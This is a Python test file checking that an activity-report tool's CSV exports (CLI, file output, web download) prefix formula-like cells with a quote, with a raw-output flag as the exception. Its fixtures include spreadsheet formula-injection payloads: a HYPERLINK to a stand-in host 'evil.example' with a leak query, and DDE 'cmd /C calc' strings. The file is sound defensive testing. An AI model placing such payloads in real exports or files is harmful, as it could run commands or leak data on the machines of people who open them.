"""CSV cells that a spreadsheet would run as a formula are written as text.

Names, usernames and user ids come from outside; one that starts with
``= + - @``, a tab or a carriage return gets a leading ``'`` in every CSV a
person may open (``--format csv``, ``-o FILE.csv`` and the view's download),
unless ``--csv-raw`` asks for the raw values. Numbers are never touched.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import httpx
import pytest

from .conftest import run_cli, write_csv
from .test_server import start_server, stop

EVIL = [
    '=HYPERLINK("http://evil.example/?leak","x")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
]
#: Kept by the renderer's test only: a users file's cells are stripped of white space.
CONTROL = ["\tTAB", "\rCR"]
SAFE = ["plain", "x=1", "a-b", "'quoted", "42"]


def _store(tmp_path: Path) -> Path:
    """A store whose users have hostile ids, names and usernames, and a few safe ones."""
    names = EVIL + SAFE
    events = write_csv(
        tmp_path / "events.csv",
        ("time", "user_id", "category", "duration_s"),
        [("2022-08-02T09:00:00Z", f"u{i}", "ide", 60 * (i + 1)) for i in range(len(names))]
        + [("2022-08-02T10:00:00Z", "=1+1", "ide", 60)],
    )
    users = write_csv(
        tmp_path / "users.csv",
        ("id", "name", "username"),
        [(f"u{i}", n, n if n[0] in "=+-@" else f"user{i}") for i, n in enumerate(names)],
    )
    db = tmp_path / "store.duckdb"
    for args in (("ingest", str(events)), ("users", "import", str(users))):
        result = run_cli(*args, "--db", str(db))
        assert result.exit_code == 0, result.stderr
    return db


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _check_neutralised(rows: list[dict[str, str]]) -> None:
    names = {row["user_id"]: row["name"] for row in rows}
    for i, name in enumerate(EVIL):
        assert names[f"u{i}"] == "'" + name
    for i, name in enumerate(SAFE, start=len(EVIL)):
        assert names[f"u{i}"] == name
    usernames = {row["user_id"]: row["username"] for row in rows}
    assert usernames["u0"] == "'" + EVIL[0]
    assert usernames["u3"] == "'" + EVIL[3]
    assert usernames["u4"] == "user4"
    assert "'=1+1" in names  # a user id that is a formula, without a name
    for row in rows:  # numbers stay numbers
        assert row["count"].isdigit() and row["duration"].isdigit()
        assert row["bucket_duration"].isdigit()
        assert not row["time"].startswith("'")


def test_the_cli_neutralises_formulas_by_default_and_csv_raw_keeps_them(tmp_path: Path) -> None:
    db = _store(tmp_path)
    query = ("--db", str(db), "--interval", "1 day", "--start", "2022-08-01", "--end", "2022-08-03")
    result = run_cli(*query, "--format", "csv")
    assert result.exit_code == 0, result.stderr
    _check_neutralised(_rows(result.stdout))
    assert sum(1 for row in _rows(result.stdout) if row["duration"] == "60000000000") == 2

    target = tmp_path / "report.csv"
    written = run_cli(*query, "-o", str(target))
    assert written.exit_code == 0, written.stderr
    _check_neutralised(_rows(target.read_text(encoding="utf-8")))

    raw = run_cli(*query, "--format", "csv", "--csv-raw")
    assert raw.exit_code == 0, raw.stderr
    names = {row["user_id"]: row["name"] for row in _rows(raw.stdout)}
    assert [names[f"u{i}"] for i in range(len(EVIL))] == EVIL
    assert "=1+1" in names


def test_csv_raw_with_another_format_is_a_usage_error(tmp_path: Path) -> None:
    db = _store(tmp_path)
    result = run_cli("--db", str(db), "--format", "json", "--csv-raw")
    assert result.exit_code == 2
    assert result.stderr == (
        "activity-report: error: --csv-raw is for the csv format, not json; drop it\n"
    )


def test_other_formats_keep_the_names(tmp_path: Path) -> None:
    db = _store(tmp_path)
    result = run_cli("--db", str(db), "--format", "ndjson", "--interval", "1 day")
    assert result.exit_code == 0, result.stderr
    names = {json.loads(line)["name"] for line in result.stdout.splitlines()}
    assert set(EVIL) <= names


@pytest.mark.slow  # its own server
def test_the_views_download_neutralises_formulas(tmp_path: Path) -> None:
    db = _store(tmp_path)
    made = run_cli("tokens", "create", "--name", "csv", "--db", str(db))
    assert made.exit_code == 0, made.stderr
    url, process = start_server(db)
    try:
        with httpx.Client(base_url=url, timeout=30) as http:
            signed = http.post(
                "/signin",
                data={"token": made.stdout.strip(), "next": ""},
                headers={"Origin": url},
                follow_redirects=False,
            )
            assert signed.status_code == 303, signed.text
            answer = http.get(
                "/metrics/activity.csv?interval=day&start=2022-08-01&end=2022-08-03&tz=UTC",
                headers={"Sec-Fetch-Site": "same-origin"},
            )
        assert answer.status_code == 200, answer.text
        _check_neutralised(_rows(answer.text))
    finally:
        code, log = stop(process)
    assert code == 0, log


def test_the_renderer_neutralises_tab_and_carriage_return_starts_and_keeps_numbers() -> None:
    from activity_report.model import UserInfo
    from activity_report.render import Format, renderer

    from .test_render import sample

    for name in [*EVIL, *CONTROL]:
        report = sample({"ann": UserInfo("ann", name, name)})
        row = _rows(renderer(Format.csv)(report))[0]
        assert (row["name"], row["username"]) == ("'" + name, "'" + name)
        assert row["duration"] == "7200000000000"
        raw = _rows(renderer(Format.csv, csv_raw=True)(report))[0]
        assert (raw["name"], raw["username"]) == (name, name)
